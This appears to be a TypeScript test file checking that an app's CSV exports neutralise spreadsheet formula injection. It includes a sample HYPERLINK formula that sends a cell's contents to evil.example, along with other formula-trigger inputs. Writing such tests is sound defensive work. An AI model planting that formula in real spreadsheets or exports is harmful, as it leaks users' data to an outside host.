import type { Reading } from '@gongbang/shared';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCsv, importCsv } from '../../src/compose/transfer.js';
import { ADMIN_TOKEN, makeApp, type TestApp } from '../support/app.js';
import { everyKind } from '../support/readings.js';
import { startTestRegistry } from './registry-fixtures.js';

const T0 = Date.UTC(2026, 10, 20, 0, 0, 0);
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"details")';

describe('CSV exports neutralise formulas', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await makeApp({ now: () => T0 + 3_600_000 });
    const scan = everyKind(1, T0)[0] as Extract<Reading, { kind: 'scan' }>;
    await t.store.write('ws-1', 'agent-1', [
      { ...scan, text: EVIL },
      { ...scan, seq: 2, ts: T0 + 1, text: '-5' },
      {
        seq: 3,
        ts: T0 + 2,
        timeSource: 'agent',
        source: 'meter-1',
        kind: 'measurement',
        channel: 'temp_c',
        value: -5,
        unit: 'Cel',
      },
    ]);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('writes a barcode that looks like a formula as text, and a negative measurement as a number', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/v1/readings?workshop=ws-1&from=${T0}&to=${T0 + 10}&format=csv`,
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.text)).toEqual([`'${EVIL}`, "'-5", '']);
    expect(rows[2]?.value).toBe('-5');
    // No cell of the document starts with a formula trigger, except a plain negative number.
    for (const r of rows) {
      for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });
});

describe('registry CSV export and import', () => {
  it('neutralises formula-like names and reads back exactly what it wrote', async () => {
    const from = await startTestRegistry('sqlite');
    const to = await startTestRegistry('sqlite');
    try {
      const names = { nameKo: '=1+2 공방', nameEn: "'quoted+" };
      await from.registry.workshops.create({ id: 'ws-x', industry: 'other', headcount: 3, ...names });
      await from.registry.products.put('ws-x', {
        id: 'p-1',
        name: '@SUM(A1)',
        operations: [{ id: 'op-1', name: '-cut', pruS: 12.5 }],
      });
      const workshops = await exportCsv(from.registry, 'workshops');
      const operations = await exportCsv(from.registry, 'operations');
      expect(workshops).toContain("'=1+2 공방");
      expect(workshops).toContain(',3\n');
      expect(operations).toContain("'@SUM(A1)");
      expect(operations).toContain("'-cut,12.5");

      await importCsv(to.registry, 'workshops', workshops);
      await importCsv(to.registry, 'operations', operations);
      expect(await to.registry.workshops.get('ws-x')).toMatchObject({ ...names, headcount: 3 });
      expect(await to.registry.products.list('ws-x')).toMatchObject([
        { id: 'p-1', name: '@SUM(A1)', operations: [{ id: 'op-1', name: '-cut', pruS: 12.5 }] },
      ]);
    } finally {
      await from.close();
      await to.close();
    }
  });
});
